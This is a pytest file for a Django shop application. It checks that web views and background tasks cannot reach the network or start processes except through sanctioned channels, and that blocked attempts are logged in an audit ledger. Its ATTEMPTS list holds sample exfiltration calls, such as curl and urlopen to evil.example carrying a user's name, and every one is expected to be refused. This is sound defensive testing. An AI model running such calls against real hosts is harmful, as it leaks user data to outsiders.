"""In a web or task process of the shop nothing leaves but through a door, and what tried to is in the ledger.

Each test is a process of its own: shutting the ways out cannot be undone.
"""

import json
import re
from collections.abc import Iterator

import pytest

from tests.stores import Stores, prepare

ATTEMPTS = {
    'socket.create_connection(("127.0.0.1", 9))': ("socket.connect", "127.0.0.1:9"),
    'urllib.request.urlopen("http://127.0.0.1:9/?name=taro")': ("socket.connect", "127.0.0.1:9"),
    'urllib.request.urlopen("https://taro.evil.example/")': ("socket.getaddrinfo", "*.evil.example"),
    'subprocess.run(["curl", "https://evil.example/?taro"])': ("subprocess.Popen", "curl"),
    'os.system("curl https://evil.example/?taro")': ("os.system", "sh"),
}
BEGIN = f"""
import json, os, socket, subprocess, urllib.request
from small_trades.config.commands import setup
setup.start_django()
from small_trades import privacy
from small_trades.privacy import ledger

def tried():
    refused = []
    for attempt in (
        {", ".join(f"lambda: {attempt}" for attempt in ATTEMPTS)}
    ):
        try:
            attempt()
        except OSError as error:
            refused.append(isinstance(getattr(error, "reason", error), privacy.WayOutShut))
        else:
            refused.append(False)
    return refused

def finish(**answers):
    rows = [row for row in ledger.rows(limit=1000) if row.event == ledger.Event.WAY_OUT]
    answers["rows"] = [[row.reason, row.recipient, row.outcome] for row in rows]
    answers["who"] = sorted({{(row.actor_kind, row.role) for row in rows}})
    answers["requests"] = len({{row.request_id for row in rows}})
    answers["is_whole"] = ledger.verify().ok
    ledger.close()
    print("answers " + json.dumps(answers))
"""
FROM_A_VIEW = """
from small_trades.config import urls
from django.http import JsonResponse
from django.urls import path
urls.urlpatterns.insert(0, path("leak/", lambda request: JsonResponse({"refused": tried()})))
from small_trades.config.wsgi import application    # which shuts the ways out, as for the web server
from django.test import Client
answer = Client(headers={"host": "localhost"}).get("/leak/", secure=True)
finish(refused=answer.json()["refused"], status=answer.status_code)
"""
FROM_A_TASK = """
from small_trades.config.ways_out import shut_ways_out
shut_ways_out()
with privacy.acting_as(privacy.Actor.system("orders.send_confirmation")):
    refused = tried()
finish(refused=refused)
"""
THROUGH_THE_DOOR = """
from small_trades.config.ways_out import shut_ways_out
shut_ways_out()
from small_trades.shop.inquiries.tests.making import asker, inquiry
from small_trades.shop.account.tests.making import run_tasks
who = asker()
inquiry(who)
run_tasks()
from small_trades.doors.mail.mailbox.reading import letters
finish(mails=[who.email == letter.to for letter in letters()])
"""
WEB = """
from small_trades.config.wsgi import application
"""
WORKER = """
from small_trades.config.commands import worker
from small_trades.config.working import process
process.work = lambda clock: 0
worker.run(None)
"""
FILES = """
from small_trades.shop.inquiries.files import GivenFile, Patience, pdfs, take_file
from small_trades.shop.inquiries.tests.sending import pdf
read = take_file(GivenFile("a.pdf", pdf()), Patience()).content[:5].decode()
refused = []
for words in ([*pdfs.READER.arguments, "taro"], [pdfs.READER.arguments[0], "-c", "pass"]):
    try:
        subprocess.run(words, env=dict(pdfs.READER.environment))
    except privacy.WayOutShut:
        refused.append(True)
finish(read=read, refused=refused)
"""
BEFORE = """
refused = []
try:
    socket.create_connection(("127.0.0.1", 9))
except ConnectionRefusedError:
    refused.append("nobody listens")
finish(refused=refused)
"""


@pytest.fixture(scope="module")
def prepared(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stores]:
    made = prepare(tmp_path_factory.mktemp("prepared"))
    yield made
    made.drop()


@pytest.fixture
def stores(prepared: Stores, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stores]:
    made = prepared.copy(tmp_path_factory.mktemp("stores") / "var")
    yield made
    made.drop()


def answers(stores: Stores, script: str) -> dict[str, object]:
    """What the process found out."""
    done = stores.python(BEGIN + script)
    assert done.returncode == 0, done.stderr
    found = re.search(r"^answers (.*)$", done.stdout, re.MULTILINE)
    assert found is not None
    return dict(json.loads(found[1]))


def test_nothing_leaves_from_a_view(stores: Stores) -> None:
    assert answers(stores, FROM_A_VIEW) == {
        "refused": [True] * len(ATTEMPTS),
        "status": 200,
        "rows": [[event, what, "refused"] for event, what in ATTEMPTS.values()],
        "who": [["visitor", ""]],
        "requests": 1,
        "is_whole": True,
    }


def test_nothing_leaves_from_a_task(stores: Stores) -> None:
    assert answers(stores, FROM_A_TASK) == {
        "refused": [True] * len(ATTEMPTS),
        "rows": [[event, what, "refused"] for event, what in ATTEMPTS.values()],
        "who": [["system", "orders.send_confirmation"]],
        "requests": 1,
        "is_whole": True,
    }


def test_what_a_door_announced_still_leaves(stores: Stores) -> None:
    assert answers(stores, THROUGH_THE_DOOR) == {
        "mails": [True],
        "rows": [],
        "who": [],
        "requests": 0,
        "is_whole": True,
    }


@pytest.mark.parametrize("begin", [WEB, WORKER], ids=["web", "worker"])
def test_the_reader_of_pdfs_is_started_and_nothing_else(stores: Stores, begin: str) -> None:
    found = answers(stores, begin + FILES)
    assert (found["read"], found["refused"]) == ("%PDF-", [True, True])
    rows = found["rows"]
    assert isinstance(rows, list)
    assert [row[0] for row in rows] == ["subprocess.Popen"] * 2


def test_the_same_call_goes_out_where_nothing_is_shut(stores: Stores) -> None:
    assert answers(stores, BEFORE)["refused"] == ["nobody listens"]
